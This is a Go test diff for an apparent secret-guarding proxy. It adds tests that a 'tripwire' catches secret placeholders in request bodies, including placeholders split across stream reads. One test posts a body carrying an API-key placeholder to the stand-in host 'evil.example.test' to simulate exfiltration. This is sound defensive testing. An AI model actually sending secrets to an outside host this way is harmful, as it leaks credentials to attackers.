@@ -5,6 +5,7 @@ import (
 	"context"
 	"crypto/tls"
 	"encoding/base64"
+	"errors"
 	"fmt"
 	"io"
 	"net"
@@ -17,6 +18,7 @@ import (
 
 	"github.com/botbox/botbox/internal/config"
 	"github.com/botbox/botbox/internal/placeholder"
+	"github.com/botbox/botbox/internal/telemetry"
 	"github.com/prometheus/client_golang/prometheus/testutil"
 )
 
@@ -395,4 +397,56 @@ func BenchmarkServePlainPlaceholders(b *testing.B) {
 			serveLoop(b, h.Plain(), parsedRequest(b, raw))
 		})
 	}
+}
+
+// TestScanningBodyEverySplit: a placeholder split across two reads of a
+// streamed body, at every position, fails the read that completes it,
+// and no read before it returns the whole placeholder.
+func TestScanningBodyEverySplit(t *testing.T) {
+	h := &Handler{metrics: telemetry.NewMetrics()}
+	tab := testPlaceholders().Table()
+	for split := 0; split <= len(phOther); split++ {
+		x := &exchange{}
+		x.tw.table = tab
+		parts := [][]byte{[]byte("head " + phOther[:split]), []byte(phOther[split:] + " tail")}
+		b := &scanningBody{ReadCloser: io.NopCloser(&slowBody{parts: parts}), h: h, x: x, keep: tab.MaxLen() - 1}
+		var got []byte
+		var err error
+		buf := make([]byte, 1024)
+		for err == nil {
+			var n int
+			n, err = b.Read(buf)
+			got = append(got, buf[:n]...)
+		}
+		if _, ok := errors.AsType[*tripwireError](err); !ok {
+			t.Fatalf("split %d: err = %v, want the tripwire", split, err)
+		}
+		if bytes.Contains(got, []byte(phOther)) {
+			t.Fatalf("split %d: the placeholder was returned whole", split)
+		}
+		if info := x.tw.trip.Load(); info == nil || info.ref != "other-key" || info.foundIn != "body" {
+			t.Fatalf("split %d: trip = %+v", split, info)
+		}
+	}
+	// The own secret's placeholder passes, and so does everything after
+	// the first 64 KiB.
+	x := &exchange{}
+	x.tw.table, x.tw.refs = tab, []string{"api-key"}
+	late := append(bytes.Repeat([]byte("a"), tripwireBodyScan), phOther...)
+	body := append([]byte(phAPI+" "), late...)
+	b := &scanningBody{ReadCloser: io.NopCloser(bytes.NewReader(body)), h: h, x: x, keep: tab.MaxLen() - 1}
+	got, err := io.ReadAll(b)
+	if err != nil || !bytes.Equal(got, body) {
+		t.Fatalf("clean body: err %v, %d of %d bytes", err, len(got), len(body))
+	}
+}
+
+// TestTripwireReportModeBody: in report mode a denied request is
+// forwarded, but not with a placeholder in its body.
+func TestTripwireReportModeBody(t *testing.T) {
+	e := newTripEnv(t, envOpts{})
+	e.usePolicyMode("report")
+	body := `{"key":"` + phAPI + `"}`
+	status, resp := e.send(ListenerHTTP, http.MethodPost, "evil.example.test", "/x", nil, strings.NewReader(body), int64(len(body)))
+	e.assertTripped(status, resp, ListenerHTTP, "api-key", "body", "evil.example.test")
 }
